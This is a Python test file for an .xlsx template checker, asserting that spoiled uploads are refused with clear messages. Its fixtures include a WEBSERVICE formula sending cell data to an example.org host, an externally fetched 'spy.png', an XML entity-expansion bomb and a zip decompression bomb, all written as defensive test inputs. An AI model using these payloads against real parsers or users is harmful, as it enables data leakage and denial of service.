"""Workbooks that can't be templates: each is refused in words that say what, where and what to do."""

from __future__ import annotations

import io
import random
import zipfile

import openpyxl
import pytest

from demo.workbooks import MAIN, Handmade, Page
from rulka.core.errors import RulkaError
from rulka.formats.refill.checking import Linking, check, check_apart, codes_apart
from tests.formats.refill.world import handmade, output, saved, some_rows

ROWS = some_rows(12)


def macros(book):
    book.parts["xl/vbaProject.bin"] = b"macros"


def with_macro_type(book):
    book.swap(
        "[Content_Types].xml",
        "openxmlformats-officedocument.spreadsheetml.sheet.main",
        "ms-excel.sheet.macroEnabled.main",
    )


def other_workbook(book):
    book.put("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"/>')


def connection(book):
    book.put("xl/connections.xml", f'<connections xmlns="{MAIN}"/>')


def renamed_link(book):
    book.parts["xl/data/one.xml"] = f'<externalLink xmlns="{MAIN}"/>'.encode()
    book.relate("xl/workbook.xml", "externalLink", "data/one.xml")


def fetched_picture(book):
    book.relate("xl/drawings/drawing1.xml", "image", "https://example.org/spy.png", outside=True)


def other_days(book):
    text = book.text("xl/workbook.xml")
    was = text[text.index("<workbookPr") : text.index("/>", text.index("<workbookPr"))]
    book.swap("xl/workbook.xml", was, f'{was} date1904="1"')


def protected(book):
    book.swap(book.sheets["Spend"], "<autoFilter", '<sheetProtection sheet="1"/><autoFilter')


def protected_mine(book):
    book.swap(book.sheets["Review"], "<conditionalFormatting", '<sheetProtection sheet="1"/><conditionalFormatting')


def chosen_filter(book):
    part = book.sheets["Spend"]
    text = book.text(part)
    was = text[text.index("<autoFilter") : text.index("/>", text.index("<autoFilter")) + 2]
    now = was.replace(
        "/>", '><filterColumn colId="1"><filters><filter val="Sound Oil"/></filters></filterColumn></autoFilter>'
    )
    book.swap(part, was, now)


def merged(book):
    book.swap(
        book.sheets["Spend"],
        "<conditionalFormatting",
        '<mergeCells count="1"><mergeCell ref="A5:B6"/></mergeCells><conditionalFormatting',
    )


def renamed_sheet(book):
    book.swap("xl/workbook.xml", '<sheet name="Spend"', '<sheet name="My rows"')


def renamed_heading(book):
    book.swap(book.sheets["Spend"], ">Amount<", ">Betrag<")


def moved_headings(book):
    part = book.sheets["Spend"]
    book.swap(part, ">Supplier<", ">X<")
    book.swap(part, ">Document<", ">Supplier<")
    book.swap(part, ">X<", ">Document<")


def another_figure(book):
    book.swap(book.sheets["Spend"], "<v>-5.00</v>", "<v>-6</v>")


def typed_beside(book):
    book.swap(book.sheets["Spend"], '</row><row r="5"', '<c r="F4"><v>7</v></c></row><row r="5"')


def typed_below(book):
    book.swap(
        book.sheets["Spend"],
        "</sheetData>",
        '<row r="99"><c r="A99" t="inlineStr"><is><t>Mine</t></is></c></row></sheetData>',
    )


def another_fact(book):
    book.swap(book.sheets["Asked"], ">Ternwick<", ">Elsewhere<")


def pivot_elsewhere(book):
    book.swap("xl/pivotCache/pivotCacheDefinition1.xml", 'sheet="Spend"', 'sheet="Review"')


def pivot_of_some(book):
    book.swap("xl/pivotCache/pivotCacheDefinition1.xml", 'ref="A2:D14"', 'ref="A2:D9"')


def pivot_outside(book):
    book.swap(
        "xl/pivotCache/pivotCacheDefinition1.xml",
        '<cacheSource type="worksheet">',
        '<cacheSource type="external" connectionId="1"><!--',
    )
    book.swap("xl/pivotCache/pivotCacheDefinition1.xml", "</cacheSource>", "--></cacheSource>")


def asks_outside(book):
    book.swap(
        book.sheets["Review"], "<f>Spend!D1</f>", "<f>WEBSERVICE(&quot;https://example.org/?&quot;&amp;Spend!D1)</f>"
    )


def built_link(book):
    book.swap(
        book.sheets["Review"], "<f>Spend!D1</f>", "<f>HYPERLINK(&quot;https://example.org/?&quot;&amp;Spend!D1)</f>"
    )


def asking_name(book):
    book.name("Rate", "RTD(&quot;x&quot;,,&quot;y&quot;)".replace("&quot;", '"'))


def strict(book):
    book.parts["xl/workbook.xml"] = book.parts["xl/workbook.xml"].replace(
        MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"
    )


def broken(book):
    book.parts["xl/styles.xml"] = b"<styleSheet><fonts"


def entities(book):
    bomb = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "x" * 100}">' for at in range(12))
    text = book.text("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in book.parts else f'<sst xmlns="{MAIN}"></sst>'
    text = text.partition("?>")[2] or text
    book.parts["xl/charts/chart1.xml"] = f"<!DOCTYPE x [{bomb}]><x>&e11;</x>{text}".encode()


BAD = {
    macros: "It holds macros. Save it as .xlsx, without them.",
    with_macro_type: "It is saved as a workbook with macros. Save it as .xlsx.",
    other_workbook: "It reads other workbooks. Break the links: put values in their place.",
    connection: "It reads from outside by a connection. Take the connection out.",
    renamed_link: "It reads other workbooks. Break the links: put values in their place.",
    fetched_picture: "It fetches a part from outside: https://example.org/spy.png.",
    other_days: "Its days count from 1904, those of the rows from 1900.",
    protected: "Spend: The sheet is protected. Take its protection off.",
    protected_mine: "Review: The sheet is protected, and its formulas have to grow. Take its protection off.",
    chosen_filter: "Spend: Its filter leaves rows out. Let it show all rows, then upload it.",
    merged: "Spend: Cells are merged among the rows: A5:B6. Part them.",
    renamed_sheet: "There is no sheet 'Spend' any more. Name it as it was; sheets of your own may be called anything.",
    renamed_heading: "Spend!D2: The heading 'Amount' is not in its place: it says 'Betrag'. Columns keep",
    moved_headings: "Spend!B2: The heading 'Supplier' is not in its place: it says 'Document'.",
    another_figure: "Spend!D3: It said '-5', now '-6'. What is refilled is not changed: put it back",
    typed_beside: "Spend!F4: '7' was added. Put it on a sheet of your own.",
    typed_below: "Spend!A99: 'Mine' was added. Put it on a sheet of your own.",
    another_fact: "Asked!B3: It said 'Ternwick', now 'Elsewhere'.",
    pivot_elsewhere: "pivot By supplier on Review: The pivot reads Review!A2:D14, not the rows.",
    pivot_of_some: "pivot By supplier on Review: The pivot reads Spend!A2:D9 rather than A2:D14, not the rows.",
    pivot_outside: "pivot By supplier on Review: The pivot reads a source outside, not the rows.",
    asks_outside: "Review!B3: It asks something outside: WEBSERVICE. Put what it gives in its place.",
    built_link: "Review!B3: It puts a link's address together from cells. Write the address as a text.",
    asking_name: "name Rate: It asks something outside: RTD.",
    strict: "It is saved in the strict form of .xlsx, which is not read. Save it as a usual .xlsx.",
    broken: "Its part xl/styles.xml can't be read. Save it again as .xlsx.",
    entities: "can't be read",
}  # fmt: skip


@pytest.mark.parametrize("spoil", BAD, ids=lambda one: one.__name__)
def test_what_can_be_no_template_is_refused_in_words(tmp_path, spoil):
    book = handmade(tmp_path / "original.xlsx", ROWS)
    spoil(book)
    upload = saved(book, tmp_path / "upload.xlsx")
    with pytest.raises(RulkaError) as raised:
        check(upload, tmp_path / "original.xlsx", Linking(), "upload.xlsx")
    assert BAD[spoil] in str(raised.value), str(raised.value)


def test_all_that_is_wrong_is_said_at_once(tmp_path):
    book = handmade(tmp_path / "original.xlsx", ROWS)
    another_figure(book)
    another_fact(book)
    pivot_elsewhere(book)
    upload = saved(book, tmp_path / "upload.xlsx")
    with pytest.raises(RulkaError) as raised:
        check_apart(upload, tmp_path / "original.xlsx", Linking(), "upload.xlsx")
    told = str(raised.value)
    assert all(BAD[one] in told for one in (another_figure, another_fact, pivot_elsewhere)), told


def test_what_may_stay_as_people_made_it(tmp_path):
    """Protection of sheets that nothing grows on, links that one clicks, notes on the head, formulas above."""
    book = handmade(tmp_path / "original.xlsx", ROWS)
    book.add(Page("Rules", {"A1": "Read only"}, marks='<sheetProtection sheet="1"/>'))
    book.relate(book.sheets["Review"], "hyperlink", "https://example.org/", outside=True)
    upload = saved(book, tmp_path / "upload.xlsx")
    told = check(upload, tmp_path / "original.xlsx", Linking(), "upload.xlsx")
    assert "sheets of your own: Rules, Review" in told["linked"]


def test_a_table_over_the_rows_is_linked_and_a_note_on_a_row_is_not(tmp_path):
    original = output(tmp_path / "original.xlsx", ROWS)
    book = openpyxl.load_workbook(original)
    sheet = book["Spend"]
    sheet.auto_filter.ref = None
    sheet.add_table(openpyxl.worksheet.table.Table(displayName="Paid", ref="A2:D14"))
    book.create_sheet("Mine")["A1"] = "=SUM(Paid[Amount])"
    book.save(tmp_path / "upload.xlsx")
    told = check(tmp_path / "upload.xlsx", original, Linking(), "upload.xlsx")
    assert [one["where"] for one in told["ranges"] if one["kind"] == "table"] == ["table Paid on Spend"]
    sheet["B5"].comment = openpyxl.comments.Comment("Look", "Amy")
    book.save(tmp_path / "noted.xlsx")
    with pytest.raises(RulkaError, match="Spend!B5: A note is pinned to a row. Rows are others next time"):
        check(tmp_path / "noted.xlsx", original, Linking(), "noted.xlsx")


@pytest.mark.parametrize(("content", "said"), [
    (b"", "It is no workbook."), (b"a,b\r\n1,2\r\n", "It is no workbook."), (b"PK\x03\x04rest", "It is no workbook."),
    (bytes.fromhex("d0cf11e0a1b11ae1") + b"x" * 600, "It is an old workbook, or one that is locked with a password."),
])  # fmt: skip
def test_what_is_no_workbook_says_so(tmp_path, content, said):
    (tmp_path / "upload.xlsx").write_bytes(content)
    output(tmp_path / "original.xlsx", ROWS)
    with pytest.raises(RulkaError) as raised:
        codes_apart(tmp_path / "upload.xlsx", "upload.xlsx")
    assert said in str(raised.value)


def test_a_bomb_ends_within_its_bounds(tmp_path):
    book = handmade(tmp_path / "original.xlsx", ROWS)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in book.parts.items():
            file.writestr(name, data)
        with file.open("xl/worksheets/sheet9.xml", "w", force_zip64=True) as part:
            for _ in range(400):
                part.write(b"<row/>" * 180_000)
    (tmp_path / "bomb.xlsx").write_bytes(target.getvalue())
    bomb, original = tmp_path / "bomb.xlsx", tmp_path / "original.xlsx"
    for ask in (lambda: codes_apart(bomb, "b.xlsx"), lambda: check_apart(bomb, original, Linking(), "b.xlsx")):
        with pytest.raises(RulkaError) as raised:
            ask()
        assert raised.value.code in ("too-large", "refused") and "unpack" in str(raised.value)


def test_random_damage_is_refused_or_taken_never_a_crash(tmp_path):
    book = handmade(tmp_path / "original.xlsx", ROWS)
    chance = random.Random(11)
    parts = [name for name in book.parts if name.endswith((".xml", ".rels"))]
    for _ in range(60):
        spoilt = Handmade(book.content)
        name = chance.choice(parts)
        data = bytearray(spoilt.parts[name])
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(len(data))
            data[at : at + chance.randint(0, 30)] = bytes(chance.choices(b'<>/"=&;x0 ', k=chance.randint(0, 12)))
        spoilt.parts[name] = bytes(data)
        upload = saved(spoilt, tmp_path / "upload.xlsx")
        try:
            check(upload, tmp_path / "original.xlsx", Linking(), "upload.xlsx")
        except RulkaError as error:
            assert str(error) and "Traceback" not in str(error)
